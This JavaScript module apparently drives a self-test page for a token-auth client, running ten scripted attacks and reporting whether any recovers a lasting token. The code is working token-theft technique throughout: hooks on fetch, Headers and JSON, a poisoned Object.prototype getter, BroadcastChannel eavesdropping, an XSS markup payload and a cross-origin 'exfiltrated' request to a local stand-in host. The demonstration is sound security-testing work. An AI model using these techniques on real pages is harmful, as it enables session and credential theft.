// The attacker's script. Each attack is real and returns what it got. Nothing leaves this machine.
const { gettext, interpolate } = window;
const TOKEN = /eyJ[\w-]+\.[\w-]+\.[\w-]+|\b\w+_[\w-]{100,}/g; // access tokens, refresh tokens
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const tokens = (text) => String(text).match(TOKEN) ?? [];

const secondsOf = (token) => {
  const { exp, iat } = JSON.parse(atob(token.split(".")[1].replaceAll("-", "+").replaceAll("_", "/")));
  return exp - iat;
};

/** Describe what an attack found: nothing, an access token valid for minutes, or something that lasts. */
const outcome = (found, nothing) => {
  const all = [...new Set(found)];
  const lasting = all.filter((token) => !token.startsWith("eyJ"));
  if (lasting.length) return { kind: "lasting", got: gettext("A refresh token"), worth: gettext("weeks"), tokens: all };
  if (!all.length) return { kind: "nothing", got: nothing, worth: "–", tokens: [] };
  const worth = interpolate(gettext("%s s at most, then nothing"), [Math.max(...all.map(secondsOf))]);
  return { kind: "minutes", got: gettext("An access token"), worth, tokens: all };
};

const press = async () => {
  document.getElementById("refresh").click();
  await pause(600);
};

async function storage() {
  const found = [];
  for (const store of [localStorage, sessionStorage]) found.push(...tokens(JSON.stringify({ ...store })));
  for (const { name } of (await indexedDB.databases?.()) ?? []) found.push(...tokens(name));
  for (const key of await caches.keys()) {
    const cache = await caches.open(key);
    for (const request of await cache.keys()) found.push(...tokens(await (await cache.match(request)).text()));
  }
  return outcome(found, gettext("No token in any storage"));
}

async function cookies() {
  const seen = [document.cookie, JSON.stringify((await window.cookieStore?.getAll()) ?? [])].join(" ");
  return outcome(tokens(seen), seen.includes("__Host-") ? gettext("The cookie's name") : gettext("The cookie is not there for scripts"));
}

/** Search every object that can be reached from the window in four steps. */
async function reach() {
  const found = [];
  const seen = new Set();
  const walk = (value, depth) => {
    if (typeof value === "string") return void found.push(...tokens(value));
    if (value === null || !["object", "function"].includes(typeof value) || seen.has(value) || !depth) return;
    seen.add(value);
    for (const key of Reflect.ownKeys(value)) {
      try {
        walk(value[key], depth - 1);
      } catch {
        // a getter that wants another object
      }
    }
  };
  walk(window, 4);
  return outcome(found, interpolate(gettext("Nothing in %s objects"), [seen.size]));
}

/** Wrap everything a token might pass through, make the page renew and call, and unwrap again. */
async function hooks() {
  const found = [];
  const undo = [];
  const kept = new Set();
  let hooked = 0;
  const reading = [];
  const { clone, text } = Response.prototype;
  const read = (response) => Reflect.apply(text, Reflect.apply(clone, response, []), []);
  let looking = false; // looking passes through the hooks as well
  const look = (...values) => {
    if (looking) return;
    looking = true;
    try {
      for (const value of values) {
        inspect(value, 3);
        if (value instanceof Headers || value instanceof Request) kept.add(value); // it may be filled in later
        if (value instanceof Response && !value.bodyUsed) reading.push(read(value));
      }
    } finally {
      looking = false;
    }
  };
  const inspect = (value, depth) => {
    if (typeof value === "string") found.push(...tokens(value));
    else if (value instanceof Request || value instanceof Response) inspect(value.headers, 1);
    else if (value instanceof Headers) found.push(...tokens([...value].join()));
    else if (value && typeof value === "object" && depth)
      for (const { value: inner } of Object.values(Object.getOwnPropertyDescriptors(value))) inspect(inner, depth - 1);
  };
  const wrap = (home, name) => {
    const real = home[name];
    if (typeof real !== "function") return;
    home[name] = function (...values) {
      look(this, ...values);
      const answer = Reflect.apply(real, this, values);
      look(answer);
      return answer;
    };
    undo.push(() => (home[name] = real));
  };
  const spy = (home, name) => {
    const real = Object.getOwnPropertyDescriptor(home, name);
    Object.defineProperty(home, name, {
      configurable: true,
      get() {
        const value = real?.get ? Reflect.apply(real.get, this, []) : real?.value;
        look(this, value);
        return value;
      },
    });
    undo.push(() => (real ? Object.defineProperty(home, name, real) : delete home[name]));
  };
  wrap(window, "fetch");
  wrap(JSON, "parse");
  wrap(JSON, "stringify");
  for (const name of ["open", "send", "setRequestHeader"]) wrap(XMLHttpRequest.prototype, name);
  for (const name of ["append", "set", "get"]) wrap(Headers.prototype, name);
  for (const name of ["text", "json", "clone"]) wrap(Response.prototype, name);
  wrap(Request.prototype, "clone");
  wrap(BroadcastChannel.prototype, "postMessage");
  spy(MessageEvent.prototype, "data");
  for (const name of ["headers", "url", "signal"]) spy(Request.prototype, name);
  for (const name of ["headers", "status", "ok", "body"]) spy(Response.prototype, name);
  for (const name of ["refresh_token", "signal", "toJSON"]) spy(Object.prototype, name);
  try {
    await press();
  } finally {
    hooked = undo.length;
    for (const step of undo.reverse()) step();
  }
  for (const value of kept) inspect(value, 1);
  for (const body of await Promise.allSettled(reading)) found.push(...tokens(body.value));
  return outcome(found, interpolate(gettext("%s hooks; none saw the token"), [hooked]));
}

/** The browser reads `then` of every value that a promise is fulfilled with, also of the answer to a refresh. */
async function poison() {
  const reading = [];
  const { clone, text } = Response.prototype;
  Object.defineProperty(Object.prototype, "then", {
    configurable: true,
    get() {
      if (this instanceof Response && !this.bodyUsed) reading.push(Reflect.apply(text, Reflect.apply(clone, this, []), []));
      return undefined;
    },
  });
  try {
    await press();
  } finally {
    delete Object.prototype.then;
  }
  return outcome(tokens((await Promise.all(reading)).join(" ")), gettext("The getter was not called"));
}

async function channel() {
  const found = [];
  const stored = Object.keys(localStorage).map((key) => key.replace(/:\w+$/, ""));
  const names = new Set([...stored, `django-bearer ${location.origin}/auth/ first-party`]);
  const listeners = [...names].map((name) => {
    const listener = new BroadcastChannel(name);
    listener.onmessage = (event) => found.push(...tokens(JSON.stringify(event.data)));
    return listener;
  });
  await press();
  for (const listener of listeners) listener.close();
  return outcome(found, gettext("No message"));
}

async function refresh() {
  const answer = await fetch("/auth/refresh/", {
    method: "POST",
    credentials: "include",
    headers: { "Content-Type": "application/json", "X-Bearer-Client": "first-party" },
    body: JSON.stringify({ retry_key: "0".repeat(32) }),
  });
  const text = await answer.text();
  return outcome(tokens(text), interpolate(gettext("Refused: %s"), [answer.status]));
}

/** A page on another site, in a frame: it posts forms and fetches to the server with the cookies that the browser attaches. */
async function elsewhere() {
  const frame = document.createElement("iframe");
  frame.className = "away";
  frame.title = "the attacker's page";
  frame.src = location.href.replace("localhost", "127.0.0.1").replace(/\/[^/]*$/, "/elsewhere/");
  const told = new Promise((done) => {
    const hear = (event) => {
      if (event.source !== frame.contentWindow) return;
      removeEventListener("message", hear);
      done(event.data);
    };
    addEventListener("message", hear);
    setTimeout(() => done({ tries: [], seen: "it never answered" }), 5000);
  });
  document.body.append(frame);
  const { tries, seen } = await told;
  frame.remove();
  return outcome(tokens(seen), tries.length ? interpolate(gettext("%s requests, not one answer it could read"), [tries.length]) : String(seen));
}

async function markup() {
  const blocked = [];
  const note = (event) => blocked.push(event.effectiveDirective);
  document.addEventListener("securitypolicyviolation", note);
  let got = gettext("Script by markup ran");
  try {
    document.createElement("div").innerHTML = '<img src="data:," onerror="window.ran = true">';
  } catch {
    got = gettext("Trusted Types refused the markup");
  }
  const inline = document.createElement("script");
  try {
    inline.append("window.ran = true");
    document.head.append(inline);
  } catch {
    // refused as well
  }
  await pause(50);
  inline.remove();
  document.removeEventListener("securitypolicyviolation", note);
  if (!window.ran && blocked.length) got = interpolate(gettext("The policy refused it (%s)"), [[...new Set(blocked)].join(", ")]);
  return { kind: window.ran ? "lasting" : "nothing", got, worth: "–", tokens: [] };
}

async function send() {
  const away = `${location.origin.replace("localhost", "127.0.0.1")}/elsewhere/`;
  try {
    await fetch(away, { mode: "no-cors", method: "POST", body: "exfiltrated" });
    return { kind: "minutes", got: gettext("The request went out"), worth: "–", tokens: [] };
  } catch {
    return { kind: "nothing", got: gettext("No request went out; only leading the page away would"), worth: "–", tokens: [] };
  }
}

const ATTACKS = [
  [storage, gettext("Read every storage"), gettext("local, session, databases, caches")],
  [cookies, gettext("Read the cookies"), gettext("document.cookie, cookieStore")],
  [reach, gettext("Search the window"), gettext("every object in reach")],
  [hooks, gettext("Wrap what tokens pass through"), gettext("fetch, XMLHttpRequest, Headers, Request, Response, JSON")],
  [poison, gettext("Poison every object"), gettext("a getter named then on Object.prototype")],
  [channel, gettext("Listen to the tabs"), gettext("the client's BroadcastChannel")],
  [refresh, gettext("Call refresh itself"), gettext("as the client does, with the cookie")],
  [elsewhere, gettext("Call from another site"), gettext("forms, frames, fetches, images")],
  [markup, gettext("Inject markup"), gettext("an event handler, an inline script")],
  [send, gettext("Exfiltrate"), gettext("a request to another origin")],
];

/** What the server saw since request `number`: each request, and the failed check where it was refused. */
async function seenAfter(number) {
  const answer = await fetch(`/seen/?after=${number}`);
  return answer.ok ? (await answer.json()).seen : [];
}

const part = (name, text, props = {}) => Object.assign(document.createElement(name), { textContent: text }, props);

/** One card: the attack, what it got, what that is good for, what the server saw. */
function card([, title, how], result, seen) {
  const item = part("li", "", { className: "card" });
  const list = document.createElement("dl");
  const row = (name, ...content) => {
    const value = document.createElement("dd");
    value.append(...content);
    list.append(part("dt", name), value);
  };
  row(gettext("What it got"), part("span", result.got, { className: result.kind }));
  if (result.tokens.length) row(gettext("Good for"), result.worth);
  const lines = seen.slice(0, 12).map(({ method, path, status, check }) => part("li", `${method} ${path} → ${status}${check ? `: ${check}` : ""}`));
  const said = part("ul", "", { className: "seen" });
  said.append(...lines);
  row(gettext("What the server saw"), lines.length ? said : gettext("Nothing: no request reached it."));
  item.append(part("h3", title), part("p", how, { className: "hint" }), list);
  return item;
}

/** Run all attacks and fill in the cards. Returns what each one got. */
export async function runAttacks(cards, verdict) {
  cards.replaceChildren();
  const results = [];
  let last = (await seenAfter(0)).at(-1)?.number ?? 0;
  for (const attack of ATTACKS) {
    const [run, title] = attack;
    verdict.textContent = `${title}…`;
    let result;
    try {
      result = await run();
    } catch (error) {
      result = { kind: "nothing", got: interpolate(gettext("It failed: %s"), [error.message]), worth: "–", tokens: [] };
    }
    results.push({ name: run.name, ...result });
    const seen = await seenAfter(last);
    last = seen.at(-1)?.number ?? last;
    cards.append(card(attack, result, seen));
  }
  const lasting = results.filter((result) => result.kind === "lasting").length;
  verdict.textContent = lasting
    ? interpolate(gettext("%s attacks got something that lasts."), [lasting])
    : interpolate(gettext("%s attacks. Nothing they got outlives the access token’s minutes."), [results.length]);
  verdict.className = lasting ? "lasting" : "nothing";
  return results;
}
